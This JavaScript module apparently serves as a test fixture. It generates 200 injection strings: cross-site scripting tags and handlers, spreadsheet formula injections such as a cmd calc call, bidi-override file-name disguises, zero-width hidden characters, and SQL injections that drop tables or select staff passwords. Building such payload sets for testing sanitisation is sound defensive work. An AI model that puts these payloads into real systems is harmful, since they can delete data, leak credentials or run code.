// Two hundred texts that would do something if anything took them for more than text: scripts, formulas, characters
// that turn or hide what is around them, and database statements. Five families of forty, distinct by construction.

const product = (heads, tails, join) => heads.flatMap((head) => tails.map((tail) => join(head, tail)));

const CALLS = ["alert(1)", "window.__ran=1", "document.title='x'", "location='/desk/audit'", "fetch('//x.test')"];
const SCRIPTS = product(
  [
    (call) => `<script>${call}</script>`,
    (call) => `<img src=x onerror="${call}">`,
    (call) => `"><svg onload=${call}>`,
    (call) => `<a href="javascript:${call}">看</a>`,
    (call) => `{{constructor.constructor("${call}")()}}`,
    (call) => `</textarea><script>${call}//`,
    (call) => "${" + call + "}",
    (call) => `<iframe srcdoc="<script>${call}</script>">`,
  ],
  CALLS,
  (wrap, call) => wrap(call),
);

const BODIES = ["1+1", "cmd|'/c calc'!A1", 'HYPERLINK("//x.test","点")', "SUM(A1:A9)*1", "IMPORTXML(A1,B1)"];
const FORMULAS = product(["=", "+", "-", "@", "\t=", "\n=", "＝", " ="], BODIES, (begin, body) => `${begin}${body}`);

const TURNS = ["\u202e", "\u202d", "\u202b", "\u2067", "\u2068", "\u200f", "\u061c", "\u2066"];
const TURNED = product(TURNS, ["gpj.exe 校门", ")未到岗(", "文件txt.scr", "1234 元", "已办结 <b>"], (turn, text) => `前${turn}${text}`);

const UNSEEN = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u{e0041}", "\u180e"];
const HIDDEN = product(UNSEEN, ["青禾", "ad", "<scr", "=1", "\u0301"], (unseen, text) => `${text}${unseen}${text}`);

const ENDS = ["--", ";--", "#", "/*", " OR 1=1"];
const STATEMENTS = product(
  ["'; DROP TABLE log", '" OR ""="', "1'); DELETE FROM rows WHERE ('1'='1", "' UNION SELECT password FROM staff", "\\'; ATTACH 'x' AS y", "%27%20OR%201", "x'00'", "'||(SELECT sqlite_version())||'"],
  ENDS,
  (statement, end) => `${statement}${end}`,
);

export const PAYLOADS = [...SCRIPTS, ...FORMULAS, ...TURNED, ...HIDDEN, ...STATEMENTS];

if (new Set(PAYLOADS).size !== 200) throw new Error(`${new Set(PAYLOADS).size} distinct payloads instead of 200`);
